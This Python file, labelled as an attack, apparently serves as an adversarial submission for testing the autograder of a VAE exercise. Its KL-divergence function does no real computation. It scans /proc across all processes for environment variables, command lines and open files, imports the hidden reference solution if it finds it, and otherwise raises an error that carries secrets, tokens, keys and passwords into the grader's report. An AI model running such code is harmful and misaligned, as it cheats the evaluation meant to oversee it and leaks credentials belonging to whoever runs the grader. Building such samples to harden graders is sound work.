"""Attack: spy on the grader through the environment and ``/proc``, and leak what it finds.

Reads its own environment and, for every process ``/proc`` shows, ``environ``, ``cmdline``,
``cwd``, ``root`` and open files (``fd/*``, which can be reopened through ``/proc``). With a
path to the repository among them it imports ``course/solutions/vae.py`` (or ``solutions/vae.py``) and returns its answer.
Otherwise it raises an error whose message carries the most telling environment entries
(secrets first), so that they would show in the grader's report if anyone's leaked in.
"""
import importlib.util
import os
import sys
from pathlib import Path

import torch


def log_mean_exp(y):
    """Honest: shift each row by its maximum so that exp cannot overflow; keeps the dtype."""
    peak = y.amax(dim=1, keepdim=True)
    return peak.squeeze(1) + torch.log(torch.exp(y - peak).mean(dim=1))


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 20).decode(errors="replace")
    except OSError:
        return ""


def _spy():
    """(environment entries, paths) from every process we can look at."""
    entries, paths = [f"{k}={v}" for k, v in os.environ.items()], []
    for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
        entries += [e for e in _read(f"/proc/{pid}/environ").split("\0") if "=" in e]
        paths += [a.partition("=")[2] or a for a in _read(f"/proc/{pid}/cmdline").split("\0")]
        paths += [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
        try:
            paths += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    paths += [e.partition("=")[2] for e in entries]
    return entries, paths


def _solution(paths):
    for clue in paths:
        for part in clue.split(":"):
            if not part.startswith("/"):
                continue
            for candidate in [f / sub / "vae.py" for f in [Path(part), *Path(part).parents]
                              for sub in ("course/solutions", "solutions")]:
                try:
                    if candidate.is_file() and os.access(candidate, os.R_OK):
                        spec = importlib.util.spec_from_file_location("leaked_vae", candidate)
                        module = importlib.util.module_from_spec(spec)
                        sys.modules[spec.name] = module
                        spec.loader.exec_module(module)
                        return module
                except (OSError, ImportError, SyntaxError):
                    pass
    return None


def kl_gaussian_gaussian_analytic(mu_q, logvar_q, mu_p, logvar_p):
    entries, paths = _spy()
    leaked = _solution(paths)
    if leaked is not None:
        return leaked.kl_gaussian_gaussian_analytic(mu_q, logvar_q, mu_p, logvar_p)
    telling = sorted(set(entries), key=lambda e: not any(w in e.upper() for w in ("SECRET", "TOKEN", "KEY", "PASS")))
    raise RuntimeError("spied: " + " ".join(telling)[:1500])
